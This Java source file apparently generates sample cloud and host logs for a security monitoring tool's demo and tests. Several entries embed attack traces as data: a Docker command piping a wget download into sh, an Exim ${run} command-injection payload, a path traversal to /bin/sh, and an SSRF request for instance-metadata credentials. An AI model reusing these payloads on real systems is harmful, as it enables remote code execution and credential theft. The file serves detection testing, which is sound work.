package dev.cloudwarden.simulate.sample;

import dev.cloudwarden.simulate.CloudTrailGenerator;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.zip.GZIPOutputStream;

/**
 * A small sample of every log type CloudWarden reads, each in its native format and file layout
 * (CloudTrail as a gzipped {@code Records} file, flow logs with their header, syslog without a year...),
 * for the demo and for end-to-end tests. Times run forward from {@code start}.
 */
public final class SampleLogs {
    private static final DateTimeFormatter SYSLOG = DateTimeFormatter.ofPattern("MMM d HH:mm:ss", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter CLF = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter LOG4J = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss,SSS", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter EXIM = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss", Locale.ROOT)
            .withZone(ZoneOffset.UTC);

    private final Instant start;
    private final long seed;

    public SampleLogs(Instant start, long seed) {
        this.start = start;
        this.seed = seed;
    }

    /** Writes every sample into {@code dir}; returns the files written. */
    public List<Path> writeAll(Path dir) throws IOException {
        Files.createDirectories(dir);
        List<Path> files = new ArrayList<>();
        files.add(cloudTrail(dir.resolve("AWSLogs/111122223333/CloudTrail/us-east-1/111122223333_CloudTrail_us-east-1_sample.json.gz")));
        files.add(write(dir.resolve("vpcflow/111122223333_vpcflowlogs_us-east-1_fl-0a1b2c3d.log"), vpcFlow()));
        files.add(write(dir.resolve("route53/resolver-query-log.jsonl"), route53()));
        files.add(write(dir.resolve("kubernetes/audit.log"), kubernetes()));
        files.add(write(dir.resolve("azure/activity.jsonl"), azureActivity()));
        files.add(write(dir.resolve("azure/signin.jsonl"), azureSignIn()));
        files.add(write(dir.resolve("gcp/cloudaudit.jsonl"), gcpAudit()));
        files.add(write(dir.resolve("hosts/web-1/auth.log"), sshd()));
        files.add(write(dir.resolve("hosts/web-1/access.log"), webCombined()));
        files.add(write(dir.resolve("alb/app-lb_access.log"), alb()));
        files.add(write(dir.resolve("hosts/docker-1/dockerd.log"), docker()));
        files.add(write(dir.resolve("hosts/hadoop-rm/rm-audit.log"), yarn()));
        files.add(write(dir.resolve("hosts/mx-1/mainlog"), exim()));
        files.add(write(dir.resolve("app/okta-system-log.jsonl"), genericJson()));
        return files;
    }

    private Instant at(int seconds) {
        return start.plusSeconds(seconds);
    }

    private Path cloudTrail(Path file) throws IOException {
        Files.createDirectories(file.getParent());
        CloudTrailGenerator gen = new CloudTrailGenerator(seed, start);
        StringBuilder sb = new StringBuilder("{\"Records\":[");
        for (int i = 0; i < 25; i++) {
            sb.append(i == 0 ? "" : ",").append(gen.next());
        }
        sb.append("]}");
        try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
            out.write(sb.toString().getBytes(StandardCharsets.UTF_8));
        }
        return file;
    }

    private List<String> vpcFlow() {
        long t = start.getEpochSecond();
        return List.of(
                "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status",
                "2 111122223333 eni-0a1b2c3d4e5f60718 10.0.1.27 10.0.2.14 41022 443 6 22 8120 " + t + " " + (t + 60) + " ACCEPT OK",
                "2 111122223333 eni-0a1b2c3d4e5f60718 198.51.100.23 10.0.1.27 51820 22 6 3 180 " + t + " " + (t + 60) + " REJECT OK",
                "2 111122223333 eni-0a1b2c3d4e5f60718 10.0.1.27 203.0.113.77 52814 3333 6 1480 981233 " + (t + 60) + " " + (t + 120) + " ACCEPT OK",
                "2 111122223333 eni-0a1b2c3d4e5f60718 - - - - - - - " + (t + 120) + " " + (t + 180) + " - NODATA");
    }

    private List<String> route53() {
        return List.of(
                "{\"version\":\"1.100000\",\"account_id\":\"111122223333\",\"region\":\"us-east-1\",\"vpc_id\":\"vpc-0a1b2c3d\","
                        + "\"query_timestamp\":\"" + at(5) + "\",\"query_name\":\"s3.us-east-1.amazonaws.com.\",\"query_type\":\"A\","
                        + "\"query_class\":\"IN\",\"rcode\":\"NOERROR\",\"answers\":[{\"Rdata\":\"52.216.8.5\",\"Type\":\"A\",\"Class\":\"IN\"}],"
                        + "\"srcaddr\":\"10.0.1.27\",\"srcport\":\"41234\",\"transport\":\"UDP\",\"srcids\":{\"instance\":\"i-0123456789abcdef0\"}}",
                "{\"version\":\"1.100000\",\"account_id\":\"111122223333\",\"region\":\"us-east-1\",\"vpc_id\":\"vpc-0a1b2c3d\","
                        + "\"query_timestamp\":\"" + at(65) + "\",\"query_name\":\"pool.supportxmr.com.\",\"query_type\":\"A\","
                        + "\"query_class\":\"IN\",\"rcode\":\"NOERROR\",\"answers\":[{\"Rdata\":\"203.0.113.77\",\"Type\":\"A\",\"Class\":\"IN\"}],"
                        + "\"srcaddr\":\"10.0.1.27\",\"srcport\":\"53122\",\"transport\":\"UDP\",\"srcids\":{\"instance\":\"i-0123456789abcdef0\"}}",
                "{\"version\":\"1.100000\",\"account_id\":\"111122223333\",\"region\":\"us-east-1\",\"vpc_id\":\"vpc-0a1b2c3d\","
                        + "\"query_timestamp\":\"" + at(70) + "\",\"query_name\":\"nonexistent.internal.example.\",\"query_type\":\"AAAA\","
                        + "\"query_class\":\"IN\",\"rcode\":\"NXDOMAIN\",\"answers\":[],"
                        + "\"srcaddr\":\"10.0.2.14\",\"srcport\":\"40011\",\"transport\":\"UDP\",\"srcids\":{\"instance\":\"i-0fedcba9876543210\"}}");
    }

    private List<String> kubernetes() {
        return List.of(
                "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Metadata\",\"auditID\":\"5f8c2c8e-1b8e-4c43-9d1e-3f7c2a9d1e01\","
                        + "\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/default/pods\",\"verb\":\"list\","
                        + "\"user\":{\"username\":\"system:serviceaccount:monitoring:prometheus\",\"uid\":\"3b9f\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:monitoring\",\"system:authenticated\"]},"
                        + "\"sourceIPs\":[\"10.0.3.14\"],\"userAgent\":\"prometheus/2.51.0\",\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"default\",\"apiVersion\":\"v1\"},"
                        + "\"responseStatus\":{\"metadata\":{},\"code\":200},\"requestReceivedTimestamp\":\"" + at(10) + "\",\"stageTimestamp\":\"" + at(10) + "\","
                        + "\"annotations\":{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"RBAC: allowed by ClusterRoleBinding \\\"prometheus\\\"\"}}",
                "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Request\",\"auditID\":\"5f8c2c8e-1b8e-4c43-9d1e-3f7c2a9d1e02\","
                        + "\"stage\":\"ResponseComplete\",\"requestURI\":\"/api/v1/namespaces/kube-system/pods\",\"verb\":\"create\","
                        + "\"user\":{\"username\":\"dev-intern\",\"groups\":[\"system:authenticated\"]},\"sourceIPs\":[\"198.51.100.23\"],"
                        + "\"userAgent\":\"kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819\",\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"kube-system\",\"name\":\"debug\",\"apiVersion\":\"v1\"},"
                        + "\"responseStatus\":{\"metadata\":{},\"status\":\"Failure\",\"message\":\"pods is forbidden: User \\\"dev-intern\\\" cannot create resource \\\"pods\\\" in the namespace \\\"kube-system\\\"\",\"reason\":\"Forbidden\",\"code\":403},"
                        + "\"requestObject\":{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"debug\"},\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"sh\",\"image\":\"alpine\",\"securityContext\":{\"privileged\":true}}]}},"
                        + "\"requestReceivedTimestamp\":\"" + at(20) + "\",\"stageTimestamp\":\"" + at(20) + "\","
                        + "\"annotations\":{\"authorization.k8s.io/decision\":\"forbid\",\"authorization.k8s.io/reason\":\"\"}}");
    }

    private List<String> azureActivity() {
        return List.of(
                "{\"time\":\"" + at(30) + "\",\"resourceId\":\"/SUBSCRIPTIONS/0B1F6471-1BF0-4DDA-AEC3-CB9272F09590/RESOURCEGROUPS/PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WEB-NSG/SECURITYRULES/ALLOW-SSH\","
                        + "\"operationName\":\"MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE\",\"category\":\"Administrative\",\"resultType\":\"Success\",\"resultSignature\":\"Succeeded.Created\","
                        + "\"durationMs\":\"1250\",\"callerIpAddress\":\"198.51.100.23\",\"correlationId\":\"4c0a1f7e-8d35-4bbd-9a0e-6f4b1d6e2a11\",\"identity\":{\"claims\":{\"name\":\"Mallory\",\"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn\":\"mallory@contoso.com\"}},"
                        + "\"level\":\"Information\",\"location\":\"global\",\"properties\":{\"statusCode\":\"Created\",\"serviceRequestId\":\"a1b2c3\"}}");
    }

    private List<String> azureSignIn() {
        return List.of(
                "{\"time\":\"" + at(40) + "\",\"resourceId\":\"/tenants/72f988bf-86f1-41af-91ab-2d7cd011db47/providers/Microsoft.aadiam\",\"operationName\":\"Sign-in activity\","
                        + "\"operationVersion\":\"1.0\",\"category\":\"SignInLogs\",\"tenantId\":\"72f988bf-86f1-41af-91ab-2d7cd011db47\",\"resultType\":\"50126\","
                        + "\"resultSignature\":\"None\",\"resultDescription\":\"Error validating credentials due to invalid username or password.\",\"durationMs\":0,"
                        + "\"callerIpAddress\":\"203.0.113.50\",\"correlationId\":\"0e1f2a3b-4c5d-6e7f-8091-a2b3c4d5e6f7\",\"identity\":\"Alice Smith\",\"Level\":4,\"location\":\"NL\","
                        + "\"properties\":{\"id\":\"6f7e8d9c\",\"createdDateTime\":\"" + at(40) + "\",\"userDisplayName\":\"Alice Smith\",\"userPrincipalName\":\"alice@contoso.com\","
                        + "\"userId\":\"a1b2c3d4\",\"appId\":\"c44b4083-3bb0-49c1-b47d-974e53cbdf3c\",\"appDisplayName\":\"Azure Portal\",\"ipAddress\":\"203.0.113.50\","
                        + "\"status\":{\"errorCode\":50126,\"failureReason\":\"Error validating credentials due to invalid username or password.\"},"
                        + "\"clientAppUsed\":\"Browser\",\"userAgent\":\"Mozilla/5.0 (X11; Linux x86_64)\",\"authenticationRequirement\":\"singleFactorAuthentication\","
                        + "\"location\":{\"city\":\"Amsterdam\",\"countryOrRegion\":\"NL\"}}}");
    }

    private List<String> gcpAudit() {
        return List.of(
                "{\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\",\"status\":{},"
                        + "\"authenticationInfo\":{\"principalEmail\":\"deployer@acme-prod.iam.gserviceaccount.com\"},"
                        + "\"requestMetadata\":{\"callerIp\":\"198.51.100.60\",\"callerSuppliedUserAgent\":\"google-cloud-sdk gcloud/467.0.0\"},"
                        + "\"serviceName\":\"compute.googleapis.com\",\"methodName\":\"v1.compute.instances.insert\","
                        + "\"authorizationInfo\":[{\"permission\":\"compute.instances.create\",\"granted\":true,\"resourceAttributes\":{}}],"
                        + "\"resourceName\":\"projects/acme-prod/zones/us-central1-a/instances/gpu-worker-7\"},"
                        + "\"insertId\":\"-x1y2z3d4\",\"resource\":{\"type\":\"gce_instance\",\"labels\":{\"project_id\":\"acme-prod\",\"zone\":\"us-central1-a\",\"instance_id\":\"4711\"}},"
                        + "\"timestamp\":\"" + at(50) + "\",\"severity\":\"NOTICE\",\"logName\":\"projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity\","
                        + "\"receiveTimestamp\":\"" + at(51) + "\"}");
    }

    private List<String> sshd() {
        return List.of(
                SYSLOG.format(at(60)) + " web-1 sshd[2211]: Invalid user admin from 203.0.113.50 port 50122",
                SYSLOG.format(at(61)) + " web-1 sshd[2211]: Failed password for invalid user admin from 203.0.113.50 port 50122 ssh2",
                SYSLOG.format(at(62)) + " web-1 sshd[2214]: Failed password for root from 203.0.113.50 port 50130 ssh2",
                SYSLOG.format(at(90)) + " web-1 sshd[2290]: Accepted publickey for ubuntu from 10.0.0.5 port 40112 ssh2: ED25519 SHA256:pZ7v0v3m6cKx0aQ1e8l1r3mUe2f0m4W1aBcDeFgHiJk",
                SYSLOG.format(at(90)) + " web-1 sshd[2290]: pam_unix(sshd:session): session opened for user ubuntu(uid=1000) by (uid=0)",
                SYSLOG.format(at(95)) + " web-1 sudo:   ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx");
    }

    private List<String> webCombined() {
        return List.of(
                "198.51.100.7 - - [" + CLF.format(at(100)) + "] \"GET /index.html HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 Safari/605.1.15\"",
                "203.0.113.50 - - [" + CLF.format(at(101)) + "] \"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\" 400 226 \"-\" \"curl/8.5.0\"",
                "203.0.113.50 - - [" + CLF.format(at(102)) + "] \"GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\" 200 94 \"-\" \"python-requests/2.31.0\"",
                "10.0.0.5 - deploy [" + CLF.format(at(103)) + "] \"POST /api/v1/orders HTTP/1.1\" 201 88 \"https://shop.example.com/cart\" \"Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0\"");
    }

    private List<String> alb() {
        String ts = at(110).toString();
        return List.of(
                "https " + ts + " app/prod-web/50dc6c495c0c9188 198.51.100.7:50212 10.0.1.27:443 0.001 0.012 0.000 200 200 340 5420 "
                        + "\"GET https://shop.example.com:443/products?id=42 HTTP/2.0\" \"Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X)\" "
                        + "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/web/73e2d6bc24d8a067 "
                        + "\"Root=1-65f2a1b3-0a1b2c3d4e5f60718293a4b5\" \"shop.example.com\" \"arn:aws:acm:us-east-1:111122223333:certificate/12345678-1234-1234-1234-123456789012\" "
                        + "0 " + ts + " \"forward\" \"-\" \"-\" \"10.0.1.27:443\" \"200\" \"-\" \"-\" TID_0a1b2c3d4e5f",
                "http " + ts + " app/prod-web/50dc6c495c0c9188 203.0.113.50:41234 - -1 -1 -1 460 - 120 0 "
                        + "\"POST http://shop.example.com:80/xmlrpc.php HTTP/1.1\" \"Go-http-client/1.1\" - - - "
                        + "\"Root=1-65f2a1b3-1a2b3c4d5e6f708192a3b4c5\" \"-\" \"-\" 0 " + ts + " \"forward\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" TID_1b2c3d4e5f60");
    }

    private List<String> docker() {
        return List.of(
                "time=\"" + at(120) + "\" level=debug msg=\"Calling GET /_ping\"",
                "time=\"" + at(121) + "\" level=debug msg=\"Calling POST /v1.24/images/create?fromImage=alpine&tag=latest\"",
                "time=\"" + at(123) + "\" level=debug msg=\"Calling POST /v1.24/containers/create\"",
                "time=\"" + at(123) + "\" level=debug msg=\"form data: {\\\"Cmd\\\":[\\\"sh\\\",\\\"-c\\\",\\\"wget -q -O- http://203.0.113.77/x.sh | sh\\\"],\\\"Image\\\":\\\"alpine:latest\\\",\\\"HostConfig\\\":{\\\"Privileged\\\":true}}\"",
                "time=\"" + at(124) + "\" level=info msg=\"Container failed to exit within 10s of signal 15 - using the force\" container=3f4e5d6c7b8a");
    }

    private List<String> yarn() {
        return List.of(
                LOG4J.format(at(130)) + " INFO resourcemanager.RMAuditLogger: USER=dr.who\tIP=203.0.113.66\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=application_1700000000000_0042\tQUEUENAME=default",
                LOG4J.format(at(131)) + " INFO resourcemanager.RMAuditLogger: USER=hadoop\tIP=10.0.4.20\tOPERATION=Kill Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=application_1700000000000_0040",
                LOG4J.format(at(132)) + " WARN resourcemanager.RMAuditLogger: USER=dr.who\tIP=203.0.113.66\tOPERATION=Move Application Request\tTARGET=ClientRMService\tRESULT=FAILURE\tDESCRIPTION=Unauthorized user\tPERMISSIONS=User dr.who does not have permission\tAPPID=application_1700000000000_0042");
    }

    private List<String> exim() {
        return List.of(
                EXIM.format(at(140)) + " SMTP connection from [203.0.113.90]:51234 (TCP/IP connection count = 1)",
                EXIM.format(at(141)) + " H=(localhost) [203.0.113.90]:51234 F=<> rejected RCPT <${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20203.0.113.77\\x2Fsh\\x22}}@localhost>: Unrouteable address",
                EXIM.format(at(150)) + " 1rXyZa-000Abc-1Q <= billing@partner.example H=mail.partner.example [198.51.100.25]:40122 P=esmtps X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=no S=18422 id=20240301101500.1234@partner.example",
                EXIM.format(at(151)) + " 1rXyZa-000Abc-1Q => finance <finance@acme.example> R=local_user T=local_delivery",
                EXIM.format(at(151)) + " 1rXyZa-000Abc-1Q Completed");
    }

    private List<String> genericJson() {
        return List.of(
                "{\"published\":\"" + at(160) + "\",\"eventType\":\"user.session.start\",\"actor\":{\"alternateId\":\"alice@contoso.com\",\"type\":\"User\"},"
                        + "\"client\":{\"ipAddress\":\"198.51.100.7\",\"userAgent\":{\"rawUserAgent\":\"Mozilla/5.0\"}},\"outcome\":{\"result\":\"SUCCESS\"}}");
    }

    private static Path write(Path file, List<String> lines) throws IOException {
        Files.createDirectories(file.getParent());
        Files.write(file, lines, StandardCharsets.UTF_8);
        return file;
    }
}
